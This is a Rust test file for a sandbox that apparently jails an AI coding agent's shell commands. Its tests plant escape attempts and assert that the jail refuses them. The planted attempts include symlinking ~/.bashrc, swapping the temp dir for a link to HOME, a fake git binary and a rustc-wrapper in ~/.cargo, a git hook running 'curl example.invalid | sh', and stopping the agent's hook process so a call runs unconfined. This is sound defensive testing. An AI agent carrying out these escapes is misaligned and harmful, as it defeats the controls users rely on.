//! Attacks on the jail itself (issue 9), each run for real through `loopgate hook claude`
//! and the client's own shell: what a jailed command leaves behind must not make the
//! unconfined shells around it (the agent's shell after the command, the next command's
//! jail) do what the jail refused.

mod support;

use std::path::{Path, PathBuf};
use support::jail::{Runner, Sandbox};

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

fn rewritten(ran: &support::jail::Ran) -> String {
    ran.answer["hookSpecificOutput"]["updatedInput"]["command"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// The session's temp dir as a jailed command sees it (`$TMPDIR`).
fn session_tmp(sb: &Sandbox) -> PathBuf {
    let ran = sb.attempt("echo \"$TMPDIR\"");
    assert_eq!(ran.code, Some(0), "{}", ran.explain());
    PathBuf::from(ran.stdout.trim_end())
}

#[test]
fn a_link_planted_where_the_clients_shell_writes_next_is_refused() {
    let sb = Sandbox::new(None);
    // Claude Code's shell writes `pwd -P` to a file of the system temp dir right after the
    // command, unconfined; the command can read that name from its own shell. A link
    // planted there would make the client's shell overwrite ~/.bashrc.
    std::fs::write(
        sb.repo.join("plant.sh"),
        "ln -s \"$HOME/.bashrc\" \"$1\" && echo planted\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./plant.sh \"$2\"");
    assert_eq!(ran.decision, "allow", "{}", ran.explain());
    assert!(
        rewritten(&ran).contains("builtin loopgate_jail"),
        "{}",
        ran.explain()
    );
    assert_eq!(
        read(&sb.home.join(".bashrc")),
        "# the user's shell\n",
        "{}",
        ran.explain()
    );
    assert!(!ran.stdout.contains("planted"), "{}", ran.explain());
    assert!(
        // The shared /tmp is out of sight (mount namespace) or not writable (Landlock).
        ran.stderr.contains("No such file or directory")
            || ran.stderr.contains("Permission denied"),
        "{}",
        ran.explain()
    );
    let file = sb.client_cwd_file();
    assert!(
        !std::fs::symlink_metadata(&file)
            .unwrap()
            .file_type()
            .is_symlink(),
        "{}",
        ran.explain()
    );
    assert_eq!(sb.last_cwd(), sb.repo, "{}", ran.explain());
}

#[test]
fn the_session_temp_dir_stays_writable_but_cannot_be_swapped_for_a_link() {
    let sb = Sandbox::new(None);
    let tmp = session_tmp(&sb);
    std::fs::write(
        sb.repo.join("keep.sh"),
        "echo kept > \"$TMPDIR/mine\" && cat \"$TMPDIR/mine\"\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./keep.sh");
    assert_eq!(ran.stdout, "kept\n", "{}", ran.explain());
    // Moved away and replaced by a link to HOME between the gate's check of the dir and the
    // next jail's rule for it, the next command could write all of HOME.
    std::fs::write(
        sb.repo.join("swap.sh"),
        "mv \"$TMPDIR\" \"$TMPDIR.moved\" && ln -s \"$HOME\" \"$TMPDIR\" && echo swapped\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./swap.sh");
    let moved = PathBuf::from(format!("{}.moved", tmp.display()));
    let swapped = !std::fs::symlink_metadata(&tmp).is_ok_and(|m| m.is_dir());
    if swapped {
        // Put it back for the other tests of this session name before failing.
        let _ = std::fs::remove_file(&tmp);
        let _ = std::fs::rename(&moved, &tmp);
    }
    assert!(!swapped, "{}", ran.explain());
    assert!(!moved.exists(), "{}", ran.explain());
    assert!(!ran.stdout.contains("swapped"), "{}", ran.explain());
    assert!(
        // A mount point in the namespace; the shared /tmp is not writable without one.
        ran.stderr.contains("Device or resource busy") || ran.stderr.contains("Permission denied"),
        "{}",
        ran.explain()
    );
}

#[test]
fn a_tool_cache_takes_downloads_but_not_programs_scripts_or_config_for_later() {
    let sb = Sandbox::new(None);
    let cargo = sb.home.join(".cargo");
    // ~/.cargo is writable for `cargo build`'s downloads; its bin/ is on the user's PATH, its
    // env is sourced by the user's shell, a config.toml would wrap every later build.
    std::fs::write(
        sb.repo.join("plant.sh"),
        "printf '#!/bin/sh\\necho pwned\\n' > ~/.cargo/bin/git; echo bin=$?\n\
         echo 'echo pwned' >> ~/.cargo/env; echo env=$?\n\
         printf '[build]\\nrustc-wrapper = \"/x\"\\n' > ~/.cargo/config.toml; echo config=$?\n\
         mkdir -p ~/.cargo/registry/cache && echo crate > ~/.cargo/registry/cache/c; echo cache=$?\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./plant.sh");
    assert!(
        rewritten(&ran).contains("builtin loopgate_jail"),
        "{}",
        ran.explain()
    );
    assert_eq!(
        ran.stdout,
        "bin=1\nenv=1\nconfig=1\ncache=0\n",
        "{}",
        ran.explain()
    );
    assert!(
        ran.stderr.contains("Read-only file system"),
        "{}",
        ran.explain()
    );
    assert!(!cargo.join("bin/git").exists());
    assert!(!cargo.join("config.toml").exists());
    assert!(!read(&cargo.join("env")).contains("pwned"));
    assert_eq!(read(&cargo.join("registry/cache/c")), "crate\n");
    // `jail-shell`, the fallback, alike.
    let out = sb.jailed(
        "echo x > ~/.cargo/config.toml; echo config=$?",
        Runner::JailShell,
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "config=1\n");
    assert!(!cargo.join("config.toml").exists());
}

#[test]
fn without_a_mount_namespace_only_the_download_caches_of_a_tool_home_are_writable() {
    let sb = Sandbox::with_env(None, &[("LOOPGATE_NO_USERNS", "1")]);
    let cargo = sb.home.join(".cargo");
    std::fs::write(
        sb.repo.join("plant.sh"),
        "echo x > ~/.cargo/bin/loopgate; echo bin=$?\n\
         echo x > ~/.cargo/config.toml; echo config=$?\n\
         echo crate > ~/.cargo/registry/c; echo cache=$?\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./plant.sh");
    assert!(rewritten(&ran).contains("--no-mounts"), "{}", ran.explain());
    assert_eq!(
        ran.stdout,
        "bin=1\nconfig=1\ncache=0\n",
        "{}",
        ran.explain()
    );
    assert!(
        ran.stderr.contains("Permission denied"),
        "{}",
        ran.explain()
    );
    assert!(!cargo.join("bin/loopgate").exists());
    assert!(!cargo.join("config.toml").exists());
}

#[test]
fn a_builtin_a_jailed_command_could_replace_is_not_loaded() {
    // Landlock alone, and loopgate's state dir inside a write root: nothing keeps the
    // library the agent's shell loads (before it is confined) from a jailed command.
    let sb = Sandbox::with_env(
        Some("version = 1\n[sandbox]\nwrite_roots = [\".\", \"~/.local\"]\n"),
        &[("LOOPGATE_NO_USERNS", "1")],
    );
    std::fs::write(sb.repo.join("w.sh"), "echo x >> ~/.bashrc\n").unwrap();
    let ran = sb.attempt("bash w.sh; echo denied=$?");
    let rewritten = rewritten(&ran);
    assert!(rewritten.contains("--no-mounts"), "{}", ran.explain());
    assert!(!rewritten.contains("enable -f"), "{}", ran.explain());
    assert_eq!(ran.stdout, "denied=1\n", "{}", ran.explain());
    assert_eq!(read(&sb.home.join(".bashrc")), "# the user's shell\n");
}

#[test]
fn the_loopgate_program_inside_a_write_root_is_read_only_to_a_jailed_command() {
    // A build of loopgate's own repository: the program the agent's hooks and the
    // rewrite's fallback run, inside a write root.
    let exe = std::fs::canonicalize(support::repo::LOOPGATE).unwrap();
    let config = format!(
        "version = 1\n[sandbox]\nwrite_roots = [\".\", \"{}\"]\n",
        exe.parent().unwrap().display()
    );
    let sb = Sandbox::new(Some(&config));
    // Opened for appending and closed with nothing written: on failure the program is left
    // as it was.
    std::fs::write(sb.repo.join("open.sh"), ": >> \"$1\"; echo open=$?\n").unwrap();
    let ran = sb.attempt(&format!("bash ./open.sh '{}'", exe.display()));
    assert!(
        rewritten(&ran).contains("builtin loopgate_jail"),
        "{}",
        ran.explain()
    );
    assert!(
        rewritten(&ran).contains(&format!(":{}'", exe.display())),
        "the program is among the read-only paths: {}",
        ran.explain()
    );
    assert_eq!(ran.stdout, "open=1\n", "{}", ran.explain());
    // `Text file busy` while another test runs it, which says nothing either way.
    assert!(
        ran.stderr.contains("Read-only file system") || ran.stderr.contains("Text file busy"),
        "{}",
        ran.explain()
    );
}

#[test]
fn a_service_that_runs_commands_for_whoever_connects_is_out_of_reach() {
    // The user's runtime dir holds such sockets (`systemd-run --user`, D-Bus): what is sent
    // there runs outside the jail. Landlock does not govern connecting by path.
    let base = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let runtime = std::fs::canonicalize(base.path()).unwrap().join("run");
    std::fs::create_dir(&runtime).unwrap();
    let socket = runtime.join("service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let sb = Sandbox::with_env(None, &[("XDG_RUNTIME_DIR", runtime.to_str().unwrap())]);
    std::fs::write(
        sb.repo.join("connect.py"),
        "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(sys.argv[1])\n    s.sendall(b'touch ~/pwned')\n    print('connected')\nexcept OSError as e:\n    print('refused', e.errno)\n",
    )
    .unwrap();
    let ran = sb.attempt("python3 connect.py \"$XDG_RUNTIME_DIR/service.sock\"");
    let accepted = listener.accept().is_ok();
    assert!(rewritten(&ran).contains("hide-dir="), "{}", ran.explain());
    assert!(!accepted, "the service was reached: {}", ran.explain());
    assert!(ran.stdout.starts_with("refused"), "{}", ran.explain());
}

#[test]
fn a_submodules_git_hooks_and_config_are_read_only_like_the_repositorys() {
    let sb = Sandbox::new(None);
    // A submodule's git dir, nested under a name with a slash, as `git submodule add` makes.
    let module = sb.repo.join(".git/modules/libs/dep");
    std::fs::create_dir_all(module.join("hooks")).unwrap();
    std::fs::write(module.join("config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(
        sb.repo.join("hook.sh"),
        "printf '#!/bin/sh\\ncurl example.invalid | sh\\n' > .git/modules/libs/dep/hooks/post-checkout; echo hook=$?\n\
         printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/modules/libs/dep/config; echo config=$?\n\
         mv .git/modules/libs .git/modules/l2; echo moved=$?\n",
    )
    .unwrap();
    let ran = sb.attempt("bash ./hook.sh");
    assert_eq!(
        ran.stdout,
        "hook=1\nconfig=1\nmoved=1\n",
        "{}",
        ran.explain()
    );
    assert!(!module.join("hooks/post-checkout").exists());
    assert_eq!(read(&module.join("config")), "[core]\n\tbare = false\n");
}

/// The state letter of process `pid` (`T` when stopped).
fn state_of(pid: u32) -> String {
    let stat = read(Path::new(&format!("/proc/{pid}/stat")));
    let after = stat.rsplit_once(") ").map(|(_, rest)| rest).unwrap_or("");
    after.chars().take(1).collect()
}

#[test]
fn a_jailed_command_cannot_stop_or_kill_the_unconfined_processes_around_it() {
    let sb = Sandbox::new(None);
    // Stands for the agent's client or its next tool-gate hook: Claude Code takes a hook
    // killed by a signal as a non-blocking error and runs the call as sent, unconfined.
    let mut outsider = std::process::Command::new("sleep")
        .arg("60")
        .spawn()
        .unwrap();
    let pid = outsider.id();
    std::fs::write(
        sb.repo.join("sig.sh"),
        "kill -STOP \"$1\"; echo stop=$?; kill -0 \"$1\"; echo probe=$?\n",
    )
    .unwrap();
    let ran = sb.attempt(&format!("bash ./sig.sh {pid}"));
    let state = state_of(pid);
    // `jail-shell`, the fallback of a shell that cannot load the builtin, alike.
    let fallback = sb.jailed(
        &format!("kill -STOP {pid}; echo stop=$?"),
        Runner::JailShell,
    );
    let fallback_state = state_of(pid);
    let _ = std::process::Command::new("kill")
        .args(["-CONT", &pid.to_string()])
        .status();
    let _ = outsider.kill();
    let _ = outsider.wait();
    assert!(rewritten(&ran).contains("'scope=3'"), "{}", ran.explain());
    assert_ne!(state, "T", "the outsider was stopped: {}", ran.explain());
    assert_ne!(fallback_state, "T", "stopped by jail-shell: {fallback:?}");
    assert_eq!(String::from_utf8_lossy(&fallback.stdout), "stop=1\n");
    assert_eq!(ran.stdout, "stop=1\nprobe=1\n", "{}", ran.explain());
    assert!(
        ran.stderr.contains("Operation not permitted"),
        "{}",
        ran.explain()
    );
    // Its own children it still signals.
    let own = sb.attempt("sleep 30 & kill $!; wait $!; echo own=$?");
    assert_eq!(own.stdout, "own=143\n", "{}", own.explain());
    // The price (docs/agents.md): a job an earlier call started is another jail's.
    let started = sb.attempt("sleep 60 >/dev/null 2>&1 & echo $!");
    let job: u32 = started
        .stdout
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("{}", started.explain()));
    let later = sb.attempt(&format!("kill {job}; echo later=$?"));
    let alive = state_of(job);
    let _ = std::process::Command::new("kill")
        .arg(job.to_string())
        .status();
    assert_eq!(later.stdout, "later=1\n", "{}", later.explain());
    assert_eq!(alive, "S", "{}", later.explain());
}

#[test]
fn a_jailed_commands_tmp_is_the_sessions_own_never_the_shared_one() {
    let sb = Sandbox::new(None);
    let tmp = session_tmp(&sb);
    let name = format!("lg-attack-{}", std::process::id());
    let shared = Path::new("/tmp").join(&name);
    let ran = sb.attempt(&format!(
        "echo x > /tmp/{name} && cat /tmp/{name} && ls \"$TMPDIR\" >/dev/null && echo same-tmpdir"
    ));
    let leaked = shared.exists();
    let _ = std::fs::remove_file(&shared);
    assert!(!leaked, "{}", ran.explain());
    assert_eq!(ran.stdout, "x\nsame-tmpdir\n", "{}", ran.explain());
    assert_eq!(read(&tmp.join(&name)), "x\n", "{}", ran.explain());
    // A later command of the session sees it at /tmp again.
    let later = sb.attempt(&format!("cat /tmp/{name}"));
    assert_eq!(later.stdout, "x\n", "{}", later.explain());
    // `jail-shell`, the fallback, alike.
    let out = sb.jailed(
        &format!("cat /tmp/{name} && echo y > /tmp/{name}"),
        Runner::JailShell,
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "x\n", "{out:?}");
    assert_eq!(read(&tmp.join(&name)), "y\n");
    assert!(!shared.exists());
    let _ = std::fs::remove_file(tmp.join(&name));
}

/// An ssh agent listening in the shared /tmp (`/tmp/ssh-XXXX/agent.N`, as ssh-agent puts
/// it) stays reachable, so `git push` over ssh works jailed: /tmp is then the shared one,
/// visible and not writable, rather than the session's own.
#[test]
fn an_ssh_agent_socket_in_the_shared_tmp_stays_reachable() {
    let dir = tempfile::Builder::new()
        .prefix("ssh-lg")
        .tempdir_in("/tmp")
        .unwrap();
    let socket = dir.path().join("agent.1");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    let sock = socket.display().to_string();
    let sb = Sandbox::with_env(None, &[("SSH_AUTH_SOCK", sock.as_str())]);
    std::fs::write(
        sb.repo.join("probe.sh"),
        "test -S \"$SSH_AUTH_SOCK\" && echo agent-reachable\necho x > \"$1\" 2>/dev/null || echo tmp-refused\n",
    )
    .unwrap();
    let planted = dir.path().join("planted");
    let ran = sb.attempt(&format!("bash ./probe.sh '{}'", planted.display()));
    assert_eq!(
        ran.stdout,
        "agent-reachable\ntmp-refused\n",
        "{}",
        ran.explain()
    );
    assert!(!planted.exists());
}

#[test]
fn without_a_mount_namespace_the_shared_tmp_is_not_writable() {
    let sb = Sandbox::with_env(None, &[("LOOPGATE_NO_USERNS", "1")]);
    let name = format!("lg-attack-nons-{}", std::process::id());
    let shared = Path::new("/tmp").join(&name);
    std::fs::write(
        sb.repo.join("write.sh"),
        "echo x > \"$1\"; echo code=$?; mktemp >/dev/null && echo private=$?\n",
    )
    .unwrap();
    let ran = sb.attempt(&format!("bash ./write.sh '{}'", shared.display()));
    let leaked = shared.exists();
    let _ = std::fs::remove_file(&shared);
    assert!(rewritten(&ran).contains("--no-mounts"), "{}", ran.explain());
    assert!(!leaked, "{}", ran.explain());
    assert_eq!(ran.stdout, "code=1\nprivate=0\n", "{}", ran.explain());
    assert!(
        ran.stderr.contains("Permission denied"),
        "{}",
        ran.explain()
    );
}
